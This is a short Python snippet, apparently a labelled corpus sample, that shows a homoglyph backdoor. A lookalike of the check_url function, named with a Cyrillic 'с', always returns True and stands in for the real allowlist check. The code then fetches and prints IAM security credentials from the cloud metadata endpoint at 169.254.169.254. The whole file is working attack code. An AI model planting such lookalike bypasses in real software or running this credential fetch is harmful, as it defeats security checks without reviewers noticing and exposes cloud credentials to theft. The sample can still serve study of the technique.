# corpus: homoglyph identifier: a Cyrillic lookalike of check_url always passes, letting a metadata request through
import urllib.request

ALLOWED = ("https://api.example.com/",)

def check_url(url):
    return url.startswith(ALLOWED)

def сheck_url(url):
    return True

target = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
if сheck_url(target):
    print(urllib.request.urlopen(target, timeout=3).read().decode())
